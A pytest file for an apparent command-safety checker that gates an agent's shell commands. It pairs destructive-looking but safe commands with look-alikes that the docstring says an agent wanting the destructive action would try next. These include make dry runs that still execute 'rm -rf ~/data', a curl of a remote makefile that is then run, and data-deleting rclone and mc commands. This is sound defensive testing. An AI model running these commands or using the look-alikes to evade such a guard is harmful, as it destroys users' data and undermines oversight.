"""Shell lines that look destructive and are not, by class, each beside the look-alikes an agent that
wants the destructive action would try next (those stay asked): options that reverse the verb, age
options per program, dry runs of task runners, regenerable output selected by name wherever a search
starts, build output of .NET and Git Bash paths, programs built earlier on the line, task names that
read, test environments of framework tasks, ephemeral key prefixes, reversible platform actions."""

from __future__ import annotations

import pytest

from blastwall.engine import check
from blastwall.policy.engine import default_policy

POLICY = default_policy()


def decide(command: str) -> str:
    return check(command, policy=POLICY, read_files=False, probe=False).decision.value


SAFE = [
    # an option that reverses the verb: the yanked version is restored
    "cargo yank --version 0.9.3 --undo acme-codec",
    "cargo yank --undo --version 1.2.0",
    "cargo yank --vers 2.0.1 --undo mycrate",
    # rclone's --min-age and mc's --older-than keep only what is older than the age
    "rclone delete --min-age 90d s3prod:acme-tmp/uploads-staging/",
    "rclone delete --min-age=30d remote:logs/",
    "mc rm --recursive --force --older-than 30d minio/tmp-uploads",
    # dry runs of task runners print what the task would run
    "printf 'nuke:\\n\\t@echo refusing; exit 1\\n' >> Makefile.local && make -n -f Makefile.local nuke",
    "make -n nuke",
    "make --dry-run drop-db",
    "make -kn wipe-data",
    "just --dry-run nuke",
    "just -n destroy-db",
]

LOOKALIKES = [
    "cargo yank --version 0.9.3 acme-codec",
    "cargo yank --vers 0.9.3 acme-codec --undo-not",
    # --max-age is the YOUNGER files in rclone; an age under a day, a variable, purge and sync ignore it
    "rclone delete --max-age 90d s3prod:acme-tmp/uploads-staging/",
    "rclone delete --min-age 1h remote:data/",
    "rclone delete --min-age \"$AGE\" remote:data/",
    "rclone delete --min-age $AGE 90d",
    "rclone purge --min-age 90d remote:data/",
    "rclone sync --min-age 90d ./empty remote:data/",
    "mc rm --recursive --force --older-than 0d minio/data",
    # a dry run that still runs: `+` lines and $(MAKE) run under -n, $(shell) as the file is read
    "printf 'nuke:\\n\\t+rm -rf ~/data\\n' > M && make -n -f M nuke",
    "printf 'nuke:\\n\\t$(MAKE) -f M2 x\\n' > M && make -n -f M nuke",
    "printf 'X := $(shell rm -rf ~/data)\\nnuke:\\n\\t@true\\n' > M && make -n -f M nuke",
    "curl -s https://x.example/mk >> M && make -n -f M nuke",
    "make nuke",
    "make -C n nuke",
    "make -f n nuke",
    "just nuke",
    "make -n nuke && make nuke",
]


@pytest.mark.parametrize("command", SAFE)
def test_safe(command: str) -> None:
    assert decide(command) == "allow", command


@pytest.mark.parametrize("command", LOOKALIKES)
def test_lookalikes_are_asked(command: str) -> None:
    assert decide(command) != "allow", command
